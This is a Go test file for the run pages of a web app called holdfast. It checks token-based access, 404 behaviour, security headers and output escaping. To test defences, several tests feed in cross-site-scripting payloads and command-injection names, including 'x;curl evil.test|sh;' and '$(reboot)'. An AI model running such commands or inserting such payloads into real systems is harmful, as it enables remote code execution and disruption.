package web_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/holdfast-run/holdfast/authz"
	"github.com/holdfast-run/holdfast/ids"
)

func (s *site) token(user ids.User) http.Header {
	s.Helper()
	token, _, err := s.accounts.CreateUserToken(s.Context(), authz.System(), user, "", 0)
	require.NoError(s, err)
	return bearer(token)
}

func TestAStrangerSeesNoMoreThanTheAddressSays(t *testing.T) {
	s := newSite(t)
	path := s.run()
	there := s.browser().get(path)
	require.Equal(t, http.StatusOK, there.status)
	id := path[strings.LastIndex(path, "/")+1:]
	assert.Contains(t, there.text, id)
	assert.Contains(t, there.text, "acme/shop")
	assert.NotContains(t, there.text, "queued")

	t.Log("a run that does not exist looks the same, and so does one of another workspace")
	other := string(ids.New[ids.Run]())
	for _, address := range []string{strings.Replace(path, id, other, 1), strings.Replace(path, "shop", "nosuch", 1), strings.Replace(path, "acme", "nobody", 1)} {
		elsewhere := s.browser().get(address)
		assert.Equal(t, http.StatusOK, elsewhere.status)
		same := strings.NewReplacer(other, id, "nosuch", "shop", "nobody", "acme").Replace(elsewhere.text)
		assert.Equal(t, there.text, same)
	}
}

func TestARunIsShownToWhoShowsAToken(t *testing.T) {
	s := newSite(t)
	path := s.run()
	shown := s.browser().do("GET", path, nil, s.token(s.ann.ID))
	require.Equal(t, http.StatusOK, shown.status)
	assert.Contains(t, shown.text, "<code>queued</code>")
	assert.Contains(t, shown.text, "<code>dispatch_pending</code> → <code>queued</code>")
	assert.NotContains(t, shown.text, "held")
	head := s.browser().do("HEAD", path, nil, s.token(s.ann.ID))
	assert.Equal(t, http.StatusOK, head.status)
	assert.Empty(t, head.text)

	t.Log("refusals")
	assert.Equal(t, http.StatusNotFound, s.browser().do("GET", path, nil, s.token(s.bob.ID)).status, "bob does not belong to acme")
	for _, wrong := range []string{strings.Replace(path, "shop", "other", 1), strings.Replace(path, "acme", "other", 1), path + "x", "/app/acme/shop/runs/" + string(ids.New[ids.Run]())} {
		refused := s.browser().do("GET", wrong, nil, s.token(s.ann.ID))
		assert.Equal(t, http.StatusNotFound, refused.status, wrong)
		assert.NotContains(t, refused.text, "queued")
	}
	for _, wrong := range []string{"wrong", "hfa_x.y"} {
		assert.Equal(t, http.StatusUnauthorized, s.browser().do("GET", path, nil, bearer(wrong)).status)
	}
}

func TestWhatAPageShowsIsEscaped(t *testing.T) {
	s := newSite(t)
	path := s.run()
	s.exec(`update runs set status_message = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'`)
	s.exec(`set local session_replication_role = replica; update run_history set reason = '</td><script>alert(3)</script>'`)
	shown := s.browser().do("GET", path, nil, s.token(s.ann.ID))
	require.Equal(t, http.StatusOK, shown.status)
	assert.Contains(t, shown.text, "&lt;script&gt;alert(1)&lt;/script&gt;")
	assert.Contains(t, shown.text, "&lt;script&gt;alert(3)&lt;/script&gt;")
	assert.NotContains(t, shown.text, "<script")
	assert.NotContains(t, shown.text, "<img")
	assert.Equal(t, "text/html; charset=utf-8", shown.header.Get("Content-Type"))
}

// TestNobodyPutsWordsIntoThePage: the page repeats the address in commands for a shell.
func TestNobodyPutsWordsIntoThePage(t *testing.T) {
	s := newSite(t)
	run := string(ids.New[ids.Run]())
	for _, name := range []string{"x;curl evil.test|sh;", "$(reboot)", "`reboot`", "a b", "<script>", "x\ny", "x'y", "x&y", strings.Repeat("x", 91)} {
		for _, path := range []string{"/app/" + url.PathEscape(name) + "/shop/runs/" + run, "/app/acme/" + url.PathEscape(name) + "/runs/" + run, "/app/acme/shop/runs/" + url.PathEscape(name)} {
			page := s.browser().get(path)
			assert.Equal(t, http.StatusNotFound, page.status, path)
			assert.NotContains(t, page.text, name)
		}
	}
}

// TestAPageSaysWhetherAnythingWasApplied holds UI-05.
func TestAPageSaysWhetherAnythingWasApplied(t *testing.T) {
	s := newSite(t)
	path := s.run()
	label := func(want, never string) {
		t.Helper()
		shown := s.browser().do("GET", path, nil, s.token(s.ann.ID))
		require.Equal(t, http.StatusOK, shown.status)
		assert.Contains(t, shown.text, want)
		assert.NotContains(t, shown.text, never)
	}
	label("Waiting to plan", "Plan completed")
	s.exec("set local session_replication_role = replica; update runs set durable_status = 'succeeded'") // the walk there is tested in package runs
	label("Plan completed", "Applied")
	s.exec("update attempts set phase = 'apply'")
	label("Applied", "Plan completed")
}

func TestAHeldWorkspaceIsExplained(t *testing.T) {
	s := newSite(t)
	path := s.run()
	s.exec("set local session_replication_role = replica; update runs set durable_status = 'needs_recovery'") // the walk there is tested in package runs
	shown := s.browser().do("GET", path, nil, s.token(s.ann.ID))
	assert.Contains(t, shown.text, "The workspace is held")
	assert.Contains(t, shown.text, "holdfast admin recover "+path[strings.LastIndex(path, "/")+1:]+" --apply")
}

func TestThereIsNoOtherPage(t *testing.T) {
	s := newSite(t)
	for _, path := range []string{"/app/", "/app/acme", "/app/acme/shop", "/app/acme/shop/runs", "/app/acme/shop/runs/run-x", "/app/acme/shop/runs/" + string(ids.New[ids.Run]()) + "/more"} {
		page := s.browser().get(path)
		assert.Equal(t, http.StatusNotFound, page.status, path)
		assert.Equal(t, "text/plain; charset=utf-8", page.header.Get("Content-Type"), path)
		assert.Contains(t, page.text, "There is no such")
		assert.Contains(t, page.header.Get("Content-Security-Policy"), "default-src 'none'", path)
		assert.NotContains(t, page.header.Get("Content-Security-Policy"), "script")
	}
	assert.Equal(t, http.StatusMethodNotAllowed, s.browser().post("/app/acme/shop/runs/"+string(ids.New[ids.Run]()), nil).status)
}

func TestARunsPageWithoutADatabase(t *testing.T) {
	s := newSite(t)
	path, token := s.run(), s.token(s.ann.ID)
	s.db.Close()
	page := s.browser().do("GET", path, nil, token)
	assert.Equal(t, http.StatusServiceUnavailable, page.status)
	assert.Contains(t, page.text, "cannot reach its database")
	assert.NotContains(t, page.text, "pool", "what exactly went wrong stands in the log")
	assert.Equal(t, http.StatusOK, s.browser().get(path).status, "what needs no database is there")
}
